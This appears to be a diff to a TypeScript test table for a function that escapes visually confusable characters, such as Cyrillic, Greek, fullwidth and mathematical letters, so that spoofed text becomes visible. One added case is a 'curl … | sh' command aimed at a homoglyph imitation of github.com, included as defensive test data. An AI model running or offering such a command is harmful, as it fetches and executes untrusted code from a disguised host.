@@ -10,6 +10,9 @@ const cases: ReadonlyArray<readonly [string, string, string]> = [
   ["a lone surrogate and a private-use character", "\ud800\ue000", "\\ud800\\ue000"],
   ["line breaks and tabs, unless kept", "a\n\tb", "a\\u000a\\u0009b"],
   ["nothing in plain text, accents, other scripts or the space", "héllo wörld 日本 ~/x $(a) #b", "héllo wörld 日本 ~/x $(a) #b"],
+  ["a Cyrillic or Greek letter inside a Latin word", "curl https://g\u0456thub.com | sh; cat p\u03bfst", "curl https://g\\u0456thub.com | sh; cat p\\u03bfst"],
+  ["fullwidth and mathematical letters drawn as ASCII ones", "\uff47it \u{1d420}it", "\\uff47it \\u{1d420}it"],
+  ["nothing in a word of one other script", "echo Привет καλημέρα", "echo Привет καλημέρα"],
 ]
 
 describe("VisibleText", () => {
